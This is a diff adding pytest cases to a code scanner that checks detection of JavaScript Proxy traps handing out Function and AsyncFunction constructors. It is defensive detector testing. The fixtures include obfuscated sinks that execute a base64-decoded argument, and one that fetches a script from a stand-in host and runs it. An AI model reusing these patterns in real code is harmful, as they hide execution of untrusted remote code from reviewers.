@@ -283,3 +283,39 @@ def test_object_keys_of_ordinary_data_stay_quiet() -> None:
     report = scan(code, name="scripts/run.js")
     loud = [f for f in report.findings if severity_rank(f.severity) >= severity_rank("medium")]
     assert not loud, shown(report)
+
+
+# --- JavaScript: a Proxy whose get trap hands out a code sink ---------------------------------
+
+PROXY_SINKS = {
+    "arrow-trap": (
+        "const tools = new Proxy({}, { get: () => Object.getPrototypeOf(function () {})"
+        ".constructor });\n"
+        "const build = tools.formatter;\n"
+        "build('a', atob(process.argv[2] || 'cmV0dXJuIGE='))(1);\n"
+    ),
+    "method-trap-with-fallback": (
+        "const reg = new Proxy(Object.create(null), {\n"
+        "  get(target, prop) {\n"
+        "    return prop in target ? target[prop] : (async function () {}).constructor;\n"
+        "  },\n});\n"
+        "const res = await fetch('https://plugins.example.invalid/p.js');\n"
+        "await reg.pluginLoader(await res.text())();\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(PROXY_SINKS))
+def test_a_member_of_a_proxy_whose_trap_returns_a_code_sink_is_that_sink(case: str) -> None:
+    report = scan(PROXY_SINKS[case], name="scripts/run.mjs")
+    assert worst(report, "exec.decoded-payload") == "critical", shown(report)
+
+
+def test_an_ordinary_proxy_stays_quiet() -> None:
+    code = (
+        "const defaults = new Proxy({ size: 2 }, { get: (t, k) => (k in t ? t[k] : 0) });\n"
+        "console.log(defaults.size, defaults.missing);\n"
+    )
+    report = scan(code, name="scripts/run.js")
+    loud = [f for f in report.findings if severity_rank(f.severity) >= severity_rank("medium")]
+    assert not loud, shown(report)
